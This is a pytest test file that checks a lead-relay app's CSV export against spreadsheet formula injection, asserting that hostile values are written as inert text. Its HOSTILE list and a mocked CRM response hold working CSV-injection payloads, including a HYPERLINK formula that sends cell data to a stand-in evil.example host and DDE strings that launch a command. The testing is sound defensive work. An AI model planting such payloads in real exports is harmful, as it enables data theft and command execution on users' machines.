"""The failed collection as CSV: no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io

import pytest
from pytest_httpserver import HTTPServer

from leadrelay.engine.app import Leadrelay
from leadrelay.engine.export import deliveries_csv, safe_cell
from leadrelay.engine.report import DeliveryFilter

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(A1:A9)", "\t=1", "\r=1", "  =1+1", "\uff1d1+1", "=1\n=2"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_is_written_as_text(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Jane", "jane@example.com", "a=b", "", "1-2", "O'Neil"])
def test_plain_text_is_written_as_it_is(value: str) -> None:
    assert safe_cell(value) == value


def test_numbers_stay_numbers() -> None:
    assert [safe_cell(v) for v in (-3, 2.5, True, None)] == ["-3", "2.5", "true", ""]


def test_the_failed_collection_exports_without_a_live_formula(
    app: Leadrelay, form_id: int, httpserver: HTTPServer,
) -> None:
    # Given leads whose fields, and a CRM whose refusal, look like formulas
    httpserver.expect_request("/leads").respond_with_data("=cmd|'/C calc'!A0", status=400,
                                                          content_type="text/plain")
    app.manage.create_integration(form_id, name="CRM", connector="http_post", active=True,
                                  config={"url": httpserver.url_for("/leads")},
                                  retry={"max_attempts": 1})
    for value in HOSTILE:
        app.submit(form_id, {"email": "a@b.test", "note": value, "=evil": value})
    app.deliver_due()

    # When the failed collection is exported
    text = deliveries_csv(app.ledger, DeliveryFilter(state="not_integrated"))

    # Then every row is there, with the values, and no cell starts a formula
    rows = list(csv.reader(io.StringIO(text)))
    header, body = rows[0], rows[1:]
    assert len(body) == len(HOSTILE)
    assert "field.note" in header and "field.=evil" in header
    notes = {row[header.index("field.note")] for row in body}
    assert notes == {"'" + v for v in HOSTILE}
    for row in rows:
        for cell in row:
            assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")), cell
